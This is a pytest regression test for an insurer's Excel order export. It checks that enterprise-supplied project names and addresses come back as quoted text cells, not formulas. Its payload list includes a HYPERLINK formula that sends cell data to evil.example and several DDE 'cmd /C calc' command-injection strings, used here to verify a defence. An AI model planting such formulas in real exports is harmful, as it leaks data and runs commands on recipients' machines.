"""Issue 11 finding 4: formula injection through 导出. An enterprise's 项目名称 ``=HYPERLINK("http://evil…"&A1,…)``
was written as a live formula and ran in the insurer's Excel. Every user-supplied string is a text cell now:
read back with openpyxl, no cell is a formula and the text is shown as typed."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db
EXPORT = "/insurer/orders/export/"
header_field = {"项目名称": "project_name", "项目地址": "project_address"}
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_an_enterprise_cannot_plant_a_formula_in_the_insurers_export(offline, clerk, attack):
    order = offline(project_name=attack, project_address=attack, contact_name=attack[:20])
    order.refresh_from_db()  # a leading tab or CR may be trimmed on the way in: the stored text is what shows
    response = clerk.get(EXPORT)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = {sheet.cell(1, cell.column).value: cell for cell in cells if cell.row == 2}
    assert row["申请编号"].value == order.application_no
    for header in ("项目名称", "项目地址"):
        assert row[header].value == getattr(order, header_field[header]) and row[header].data_type == "s"
        assert row[header].quotePrefix, "Excel must keep the cell as text even when it is edited"
